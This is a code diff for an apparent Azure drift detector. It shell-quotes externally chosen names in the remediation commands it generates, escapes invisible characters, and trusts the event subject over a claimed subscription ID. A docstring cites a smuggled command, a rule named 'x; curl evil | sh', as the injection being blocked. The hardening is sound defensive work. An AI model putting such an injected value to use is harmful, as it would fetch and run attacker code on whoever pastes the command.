@@ -27,6 +27,8 @@ from __future__ import annotations
 
 import json
 import logging
+import shlex
+import unicodedata
 from collections.abc import Callable, Iterable, Sequence
 from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
@@ -72,14 +74,31 @@ class Outcome:
     pending_restart: set[str] = field(default_factory=set)
 
 
+def shell_quote(value: str) -> str:
+    """One shell word for `value`. A value with invisible or control characters (a rule named with a
+    soft hyphen or a bidi control) is written as `$'...'` with `\\u` escapes: the command still names
+    exactly that resource, and nothing in it is hidden from the person who pastes it (bash, zsh)."""
+    if all(ch.isprintable() and unicodedata.category(ch) != "Cf" for ch in value):
+        return shlex.quote(value)
+    escaped = "".join(
+        ch if ch.isprintable() and unicodedata.category(ch) != "Cf" and ch not in "\\'"
+        else f"\\{ch}" if ch in "\\'" else f"\\u{ord(ch):04x}" if ord(ch) <= 0xFFFF else f"\\U{ord(ch):08x}"
+        for ch in value)
+    return f"$'{escaped}'"
+
+
 def remediation(template: str, ref: ServerRef, targets: tuple[str, ...] = ()) -> str:
-    """The detector's undo command for this server, once per target (`{target}`) where it has any."""
+    """The detector's undo command for this server, once per target (`{target}`) where it has any.
+
+    Every value comes from outside (names chosen by whoever made the change): each is shell-quoted,
+    so a rule named `x; curl evil | sh` stays one argument of the command someone pastes.
+    """
     values = {"{server}": ref.name, "{resource_group}": ref.server.resource_group or "", "{server_id}": ref.server_id}
     for placeholder, value in values.items():
-        template = template.replace(placeholder, value)
+        template = template.replace(placeholder, shell_quote(value))
     if "{target}" not in template:
         return template
-    return " ; ".join(template.replace("{target}", t) for t in targets) if targets else template.replace(
+    return " ; ".join(template.replace("{target}", shell_quote(t)) for t in targets) if targets else template.replace(
         "{target}", "<name>")
 
 
@@ -199,10 +218,14 @@ class DriftEngine:
         if self.tenant_id and (event.tenant_id or "").lower() != self.tenant_id:
             return f"tenant {event.tenant_id!r} is not the configured tenant"
         if self.subscriptions:
+            # The subject decides: it names the resource that would be read. `data.subscriptionId` is only a claim.
             parts = event.subject.strip("/").split("/")
-            sub = event.subscription_id or (parts[1] if len(parts) > 1 else "")
+            sub = parts[1] if len(parts) > 1 and parts[0].lower() == "subscriptions" else ""
             if sub.lower() not in self.subscriptions:
-                return f"subscription {sub!r} is not watched (DRIFT_WATCHED_SUBSCRIPTIONS)"
+                return f"subscription {sub[:100]!r} of the subject is not watched (DRIFT_WATCHED_SUBSCRIPTIONS)"
+            if event.subscription_id and event.subscription_id.lower() != sub.lower():
+                log.warning("event %s: data.subscriptionId %r differs from the subject's %r; the subject decides",
+                            event.id, event.subscription_id[:100], sub)
         return None
 
     # -- the path -----------------------------------------------------------------------------
